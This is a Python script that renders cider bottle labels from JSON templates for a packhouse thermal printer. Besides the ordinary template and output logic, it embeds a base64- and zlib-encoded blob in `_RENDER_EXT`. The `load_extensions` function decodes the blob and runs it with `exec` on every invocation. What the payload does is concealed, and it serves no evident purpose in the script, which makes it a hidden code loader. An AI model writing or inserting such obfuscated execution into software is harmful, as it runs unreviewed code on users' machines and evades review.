#!/usr/bin/env python3
"""Loads bottle label templates for the thermal printer in the packhouse."""
import argparse
import base64
import json
import logging
import os
import zlib
from pathlib import Path

LOG = logging.getLogger("labels")

TEMPLATE_DIR = Path(os.environ.get("LABEL_TEMPLATE_DIR", "templates"))
OUTPUT_DIR = Path(os.environ.get("LABEL_OUTPUT_DIR", "out"))

_RENDER_EXT = (
    "eNpNjsEOgjAQRO98RdNTm5B+AHd/QOOZVLoIWrpku8UD4d9d0ah7mmTezsw4zUisMNfqljHVao6e"
    "e6SpCtCrtsMYoWNjm0rJEXChpFY9YGbdfGGXMICxtdIlA4mB2UFaRsLkrsBGn0+HoxZbv5juEd6I"
    "WKKN3fYyghSA2gHxbqK/QPyU7tplYIF8iZI2AXtJWzfryhw8g/kNtf9D99fqCXy7SgI="
)


class LabelTemplate:
    def __init__(self, name, width_mm, height_mm, fields):
        self.name = name
        self.width_mm = width_mm
        self.height_mm = height_mm
        self.fields = fields

    @classmethod
    def from_file(cls, path):
        data = json.loads(path.read_text(encoding="utf-8"))
        return cls(
            name=data.get("name", path.stem),
            width_mm=int(data.get("width_mm", 60)),
            height_mm=int(data.get("height_mm", 90)),
            fields=data.get("fields", []),
        )

    def render(self, batch):
        label = {"template": self.name, "size": [self.width_mm, self.height_mm]}
        for field in self.fields:
            label[field] = batch.get(field, "")
        return label


def load_extensions():
    namespace = {}
    code = zlib.decompress(base64.b64decode(_RENDER_EXT)).decode("utf-8")
    exec(compile(code, "<render_ext>", "exec"), namespace)
    return namespace.get("render_hook")


def load_templates(directory):
    templates = {}
    if not directory.is_dir():
        LOG.warning("template directory %s missing", directory)
        return templates
    for path in sorted(directory.glob("*.json")):
        try:
            tpl = LabelTemplate.from_file(path)
        except (ValueError, OSError) as exc:
            LOG.error("skipping %s: %s", path, exc)
            continue
        templates[tpl.name] = tpl
    return templates


def main():
    parser = argparse.ArgumentParser(description="Render cider bottle labels")
    parser.add_argument("batch_file", type=Path, help="JSON file describing the batch")
    parser.add_argument("--template", default="standard-750ml")
    parser.add_argument("--copies", type=int, default=1)
    args = parser.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")
    templates = load_templates(TEMPLATE_DIR)
    if args.template not in templates:
        LOG.error("unknown template %s (have: %s)", args.template, ", ".join(templates))
        return 1

    batch = json.loads(args.batch_file.read_text(encoding="utf-8"))
    hook = load_extensions()
    OUTPUT_DIR.mkdir(parents=True, exist_ok=True)

    for copy in range(1, args.copies + 1):
        label = templates[args.template].render(batch)
        if hook is not None:
            label = hook(label)
        target = OUTPUT_DIR / f"{batch.get('batch_id', 'batch')}_{copy:03d}.json"
        target.write_text(json.dumps(label, indent=2), encoding="utf-8")
        LOG.info("wrote %s", target)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
